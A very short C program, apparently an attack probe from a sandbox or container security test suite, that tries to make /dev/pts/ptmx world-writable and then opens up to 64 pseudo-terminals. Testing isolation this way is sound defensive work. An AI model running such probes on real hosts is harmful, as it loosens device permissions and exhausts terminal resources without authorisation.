#include "attack.h"

int main(void) {
  chmod("/dev/pts/ptmx", 0666);
  int n = 0;
  for (int i = 0; i < 64; i++) if (open("/dev/pts/ptmx", O_RDWR | O_NOCTTY) >= 0 || open("/dev/ptmx", O_RDWR | O_NOCTTY) >= 0) n++;
  printf(n ? "made %d terminals\n" : "none\n", n);
}
